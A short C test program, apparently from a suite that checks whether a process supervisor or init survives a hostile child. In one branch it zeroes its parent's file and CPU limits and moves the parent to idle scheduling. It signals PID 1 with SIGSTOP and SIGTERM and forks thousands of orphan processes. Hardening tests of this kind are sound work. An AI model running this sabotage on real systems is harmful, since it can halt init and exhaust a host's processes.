// ends: exited 0
// Signals, steers and fills whatever gave it birth, in the hope that the next run is born of it as
// well. SPDX-License-Identifier: MIT
#include <sched.h>
#include <sys/resource.h>

#include "attack.h"
int main(int argc, char** argv) {
    const pid_t parent = getppid() > 0 ? getppid() : 1;
    if (!is_leaving(argc, argv)) {
        struct rlimit limit;
        if (getrlimit(RLIMIT_NOFILE, &limit) != 0 || limit.rlim_cur < 32) breach("a limit");
        if (getpriority(PRIO_PROCESS, 0) == 17) breach("a priority");
        return held();
    }
    const struct rlimit none = {0, 0};
    prlimit(parent, RLIMIT_NOFILE, &none, NULL);
    prlimit(parent, RLIMIT_CPU, &none, NULL);
    setpriority(PRIO_PROCESS, (id_t)parent, 17);
    const struct sched_param idle = {0};
    sched_setscheduler(parent, SCHED_IDLE, &idle);
    if (parent == 1) {
        const int numbers[] = {SIGSTOP, SIGTERM, SIGUSR1, SIGCHLD, SIGPIPE, SIGALRM, SIGRTMIN};
        for (size_t i = 0; i < sizeof numbers / sizeof *numbers; i++) kill(1, numbers[i]);
    }
    for (int i = 0; i < 2000; i++)  // orphans, all of which it must reap
        if (fork() == 0) {
            fork();
            _exit(0);
        }
    return held();
}
